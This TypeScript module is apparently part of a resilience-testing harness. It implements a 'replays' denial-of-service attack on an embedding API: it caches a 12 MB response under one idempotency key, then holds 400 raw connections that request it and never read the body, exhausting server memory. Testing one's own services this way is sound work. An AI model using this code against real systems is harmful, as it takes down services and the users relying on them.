import { connect } from 'node:net'
import type { Attack, Target } from '../attack.ts'

/** Vectors that make an answer of some 12 MB. */
const BODY = JSON.stringify({
  model: 'svc/sandbox-embedding',
  input: Array.from({ length: 1_500 }, () => 'x'),
  dimensions: 4_096,
})
const UNREAD_CONNECTIONS = 400
const IDEMPOTENCY_KEY = 'asked for again and again'

export const replays: Attack = {
  name: 'replays',
  about:
    'Asks 400 times at once for one kept answer of 12 MB and reads none of it; 100 of them held 2.7 GB, at no cost.',
  leastSeconds: 8,
  async run(target, signal) {
    const byStatus = new Map<number, number>()
    for (const key of target.keys) await keepAnswer(target, key, signal)
    await Promise.all(
      Array.from({ length: UNREAD_CONNECTIONS }, async (_, index) => {
        while (!signal.aborted) {
          const status = await askAndReadNothing(target, target.keys[index % target.keys.length] ?? '', signal)
          byStatus.set(status, (byStatus.get(status) ?? 0) + 1)
          await new Promise((resolve) => setTimeout(resolve, 100))
        }
      }),
    )
    return byStatus
  },
}

/** Makes the answer that is kept. */
async function keepAnswer({ url }: Target, key: string, signal: AbortSignal): Promise<void> {
  const headers = { Authorization: `Bearer ${key}`, 'Idempotency-Key': IDEMPOTENCY_KEY }
  try {
    await (await fetch(`${url}/embeddings`, { method: 'POST', headers, body: BODY, signal })).arrayBuffer()
  } catch {
    // A server that discards gives no whole answer.
  }
}

/** Resolves to the status of the answer once its connection has ended; after the head nothing of it is read. */
function askAndReadNothing({ url }: Target, key: string, signal: AbortSignal): Promise<number> {
  const { hostname, port, pathname } = new URL(url)
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname)
    let status = 0
    const end = () => {
      signal.removeEventListener('abort', end)
      socket.destroy()
      resolve(status)
    }
    signal.addEventListener('abort', end, { once: true })
    socket.on('error', end)
    socket.on('close', end)
    socket.once('data', (bytes: Buffer) => {
      const head = bytes.toString('latin1')
      status = Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0)
      // A server that discards has answered whole: it gets the next request as soon as one that refuses.
      const isWhole = /^Content-Length: \d{1,3}\r$/im.test(head)
      if (status === 200 && !isWhole) socket.pause()
      else end()
    })
    socket.write(
      `POST ${pathname}/embeddings HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${key}\r\n` +
        `Idempotency-Key: ${IDEMPOTENCY_KEY}\r\nContent-Length: ${BODY.length}\r\n\r\n${BODY}`,
    )
  })
}
